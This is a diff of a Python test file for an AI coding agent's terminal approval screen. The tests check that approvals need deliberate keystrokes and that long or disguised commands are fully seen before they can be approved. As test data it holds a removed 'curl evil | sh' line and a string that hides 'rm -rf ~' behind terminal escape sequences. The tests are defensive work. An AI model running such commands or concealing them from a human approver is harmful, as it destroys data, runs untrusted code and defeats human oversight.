@@ -6,6 +6,8 @@ import asyncio
 import functools
 import re
 
+import pytest
+
 from agent.tui.screens import ApprovalScreen, HelpScreen, LinkScreen, TrustScreen
 from agent.tui.widgets import AnswerView, PromptInput, ReasoningBlock, ToolCard
 from tests.fixtures.repos import FIX_PATCH, call, final
@@ -63,7 +65,7 @@ async def test_approving_a_patch_in_the_modal_applies_it(make_app, repo):
         await wait_for(pilot, lambda: isinstance(app.screen, ApprovalScreen))
         assert "+    return a + b" in app.screen.preview
         await until_answerable(pilot)
-        await pilot.press("y")
+        await pilot.press("ctrl+y")
         await wait_for(pilot, lambda: app.query(AnswerView))
         assert "a + b" in (repo / "calc.py").read_text()
 
@@ -76,7 +78,7 @@ async def test_denying_with_a_reason_tells_the_model(make_app, repo):
         await send(pilot, "fix add")
         await wait_for(pilot, lambda: isinstance(app.screen, ApprovalScreen))
         await until_answerable(pilot)
-        await pilot.press("t")
+        await pilot.press("ctrl+t")
         await pilot.press(*"use a helper instead")
         await pilot.press("enter")
         await wait_for(pilot, lambda: app.query(AnswerView))
@@ -346,10 +348,10 @@ async def test_a_refused_call_looks_refused_and_tool_time_leaves_out_the_approva
         await send(pilot, "go")
         await wait_for(pilot, lambda: isinstance(app.screen, ApprovalScreen))
         await pilot.pause(1.5)  # the user thinks
-        await pilot.press("y")
+        await pilot.press("ctrl+y")
         await wait_for(pilot, lambda: isinstance(app.screen, ApprovalScreen))
         await until_answerable(pilot)
-        await pilot.press("n")
+        await pilot.press("ctrl+n")
         await wait_for(pilot, lambda: app.query(AnswerView))
         first, second = list(app.query(ToolCard))
         assert first.outcome == "ok" and "✓ 0." in first.title  # seconds of work, not the 1.5 s of thinking
@@ -366,26 +368,151 @@ async def test_the_approval_shows_the_exact_quoted_argv(make_app):
         await wait_for(pilot, lambda: isinstance(app.screen, ApprovalScreen))
         assert app.screen.preview == "$ bash -lc 'sleep 30; echo done'"
         await until_answerable(pilot)
-        await pilot.press("n")
+        await pilot.press("ctrl+n")
+
+
+def screen_text(app) -> str:
+    """What the terminal shows right now, as text: one line per row."""
+    return "\n".join(strip.text for strip in app.screen._compositor.render_strips())
+
+
+def unwrapped(app, widget) -> str:
+    """The rows the widget covers on screen, joined without line breaks (to find text the preview wrapped)."""
+    region = widget.region
+    rows = screen_text(app).split("\n")[region.y:region.bottom]
+    return "".join(row[region.x:region.right].rstrip(" ▁▂▃▄▅▆▇█▊▎┃│") for row in rows)
 
 
 @asynctest
-async def test_a_multi_line_command_says_how_many_more_lines_and_m_shows_them(make_app):
-    script = "\n".join(f"echo line {i}" for i in range(40)) + "\ncurl evil | sh"
+async def test_a_multi_line_command_says_how_many_more_lines_and_yes_waits_until_the_end_was_seen(make_app, repo):
+    script = "\n".join(f"echo line {i}" for i in range(40)) + "\ntouch evil"
     app = make_app([call("container.exec", {"cmd": ["bash", "-c", script]}), final("ok")])
     async with app.run_test(size=(100, 30)) as pilot:
         await wait_for(pilot, lambda: app.runtime is not None)
         await send(pilot, "go")
         await wait_for(pilot, lambda: isinstance(app.screen, ApprovalScreen))
-        body = app.screen.query_one("#approval-body")
         more = app.screen.query_one("#approval-more")
-        assert more.display and "27 more line(s): press m" in str(more.render())
-        assert "curl evil" not in str(body.render())
+        await wait_for(pilot, lambda: "more line(s) below" in str(more.render()))
+        assert "touch evil" not in screen_text(app)
         await until_answerable(pilot)
-        await pilot.press("m")
-        await pilot.pause(0.1)
-        assert "curl evil | sh" in str(body.render()) and not more.display
-        await pilot.press("n")
+        await pilot.press("ctrl+y")  # not yet: the end has not been on screen
+        await pilot.pause(0.3)
+        assert isinstance(app.screen, ApprovalScreen) and not (repo / "evil").exists()
+        await pilot.press("end")
+        await wait_for(pilot, lambda: "touch evil" in screen_text(app))
+        assert "more line(s) below" not in str(more.render())
+        await until_answerable(pilot)
+        await pilot.press("ctrl+y")
+        await wait_for(pilot, lambda: app.query(AnswerView))
+        assert (repo / "evil").exists()
+
+
+@asynctest
+async def test_a_command_longer_than_the_screen_keeps_the_buttons_and_scrolls_to_its_last_character(make_app, repo):
+    size = (80, 24)
+    command = ["bash", "-lc", "echo " + "x" * 1500 + " ; touch HIDDEN_TAIL"]
+    app = make_app([call("container.exec", {"cmd": command}), final("ok")])
+    async with app.run_test(size=size) as pilot:
+        await wait_for(pilot, lambda: app.runtime is not None)
+        await send(pilot, "go")
+        await wait_for(pilot, lambda: isinstance(app.screen, ApprovalScreen))
+        await pilot.pause(0.2)
+        for button in app.screen.query("#approval-buttons Button"):
+            assert button.region.bottom <= size[1] and button.region.height > 0, button.id
+        preview = app.screen.query_one("#approval-preview")
+        assert "Yes" in screen_text(app) and "HIDDEN_TAIL" not in unwrapped(app, preview)
+        more = str(app.screen.query_one("#approval-more").render())
+        assert "more line(s) below" in more  # the wrapped length counts
+        assert app.screen.query_one("#yes").disabled
+        await pilot.press("pagedown", "pagedown", "pagedown", "pagedown", "pagedown", "pagedown", "pagedown",
+                          "pagedown", "pagedown", "pagedown", "pagedown", "pagedown")
+        await wait_for(pilot, lambda: "HIDDEN_TAIL'" in unwrapped(app, preview))
+        assert not app.screen.query_one("#yes").disabled
+        await until_answerable(pilot)
+        await pilot.press("ctrl+n")
+        await wait_for(pilot, lambda: app.query(AnswerView))
+        assert not (repo / "HIDDEN_TAIL").exists()
+
+
+async def type_slowly(pilot, text, per_key=0.12):
+    for char in text:
+        await pilot.press({" ": "space", "\r": "enter"}.get(char, char))
+        await pilot.pause(per_key)
+
+
+@asynctest
+async def test_typing_on_while_an_approval_appears_answers_nothing_and_the_letters_reach_the_prompt(make_app, repo):
+    app = make_app([call("container.exec", {"cmd": ["touch", "typed"]}), final("ok")], delay=0.05)
+    async with app.run_test(size=(100, 30)) as pilot:
+        await wait_for(pilot, lambda: app.runtime is not None)
+        await send(pilot, "go")
+        prompt = app.query_one(PromptInput)
+        # A person types a sentence at 120 ms a key; the approval appears part way and they type on.
+        await type_slowly(pilot, "yes, and then Also n")
+        assert isinstance(app.screen, ApprovalScreen)
+        await type_slowly(pilot, "y\rnA yes y\r")
+        await pilot.pause(0.2)
+        assert isinstance(app.screen, ApprovalScreen) and not (repo / "typed").exists()
+        assert "yes, and then Also ny\nnA yes y\n" in prompt.text  # nothing typed was lost
+        await until_answerable(pilot)
+        await pilot.press("y", "n", "A")  # single letters are not answers even after a pause
+        await pilot.pause(0.3)
+        assert isinstance(app.screen, ApprovalScreen) and not (repo / "typed").exists()
+        await until_answerable(pilot)
+        await pilot.press("ctrl+n")
+        await wait_for(pilot, lambda: app.query(AnswerView))
+        assert not (repo / "typed").exists()
+
+
+@asynctest
+async def test_always_needs_a_second_confirmation_and_shows_in_the_status_bar(make_app, repo):
+    app = make_app([call("container.exec", {"cmd": ["touch", "one"]}), call("container.exec", {"cmd": ["touch", "two"]}),
+                    final("ok")])
+    async with app.run_test(size=(120, 30)) as pilot:
+        await wait_for(pilot, lambda: app.runtime is not None)
+        await send(pilot, "go")
+        await wait_for(pilot, lambda: isinstance(app.screen, ApprovalScreen))
+        await until_answerable(pilot)
+        await pilot.press("ctrl+a")
+        await pilot.pause(0.3)
+        assert isinstance(app.screen, ApprovalScreen) and not (repo / "one").exists()
+        assert "Ctrl+A again" in str(app.screen.query_one("#approval-more").render())
+        await until_answerable(pilot)
+        await pilot.press("ctrl+a")
+        await wait_for(pilot, lambda: app.query(AnswerView))
+        assert (repo / "one").exists() and (repo / "two").exists()  # the second call was not asked
+        assert "always: container.exec" in str(app.query_one("#status").render())
+
+
+@asynctest
+async def test_enter_on_a_button_reached_with_tab_answers_after_the_guard(make_app, repo):
+    app = make_app([call("container.exec", {"cmd": ["touch", "tabbed"]}), final("ok")])
+    async with app.run_test(size=(100, 30)) as pilot:
+        await wait_for(pilot, lambda: app.runtime is not None)
+        await send(pilot, "go")
+        await wait_for(pilot, lambda: isinstance(app.screen, ApprovalScreen))
+        await pilot.press("tab", "enter")  # in the first second: neither moves nor answers
+        await pilot.pause(0.3)
+        assert isinstance(app.screen, ApprovalScreen)
+        await until_answerable(pilot)
+        await pilot.press("tab")
+        await until_answerable(pilot)
+        assert app.screen.focused.id == "yes"
+        await pilot.press("enter")
+        await wait_for(pilot, lambda: app.query(AnswerView))
+        assert (repo / "tabbed").exists()
+
+
+@asynctest
+async def test_ctrl_c_during_an_approval_cancels_the_run_and_takes_the_question_away(make_app, repo):
+    app = make_app([call("container.exec", {"cmd": ["touch", "cancelled"]}), final("ok")])
+    async with app.run_test(size=(100, 30)) as pilot:
+        await wait_for(pilot, lambda: app.runtime is not None)
+        await send(pilot, "go")
+        await wait_for(pilot, lambda: isinstance(app.screen, ApprovalScreen))
+        await pilot.press("ctrl+c")
+        await wait_for(pilot, lambda: not isinstance(app.screen, ApprovalScreen) and not app._busy)
+        assert not (repo / "cancelled").exists() and app.is_running
 
 
 @asynctest
@@ -400,7 +527,7 @@ async def test_control_sequences_in_a_command_are_shown_not_obeyed(make_app):
         assert "\\x1b[1A\\r$ echo harmless\\x1b[8m;rm -rf ~" in shown and "\x1b" not in shown
         assert "3 control/invisible" in str(app.screen.query_one("#approval-warning").render())
         await until_answerable(pilot)
-        await pilot.press("n")
+        await pilot.press("ctrl+n")
 
 
 @asynctest
